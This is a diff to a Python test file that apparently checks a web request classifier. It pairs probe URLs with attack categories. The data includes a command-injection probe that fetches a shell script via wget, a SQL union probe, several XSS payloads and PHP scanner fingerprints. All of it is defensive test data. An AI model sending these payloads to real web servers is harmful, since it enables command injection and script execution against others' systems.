@@ -64,6 +64,10 @@ def test_script_pages_need_level_four() -> None:
         ("/?c=;wget%20http://x/a.sh", "command_injection"),
         ("/?id=1%20union%20select%20null,null", "sql_injection"),
         ("/?q=%3Cscript%3E", "xss"),
+        ("/?q=style%3Dx:expression(alert(1))", "xss"),
+        ("/?q=%3Canimate%20attributeName=onunload%20to=alert(1)%3E", "xss"),
+        ("/?=PHPE9568F34-D428-11d2-A769-00AA001ACF42", "scanner"),
+        ("/index.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", "scanner"),
     ],
 )
 def test_each_category_names_its_probes(url: str, category: str) -> None:
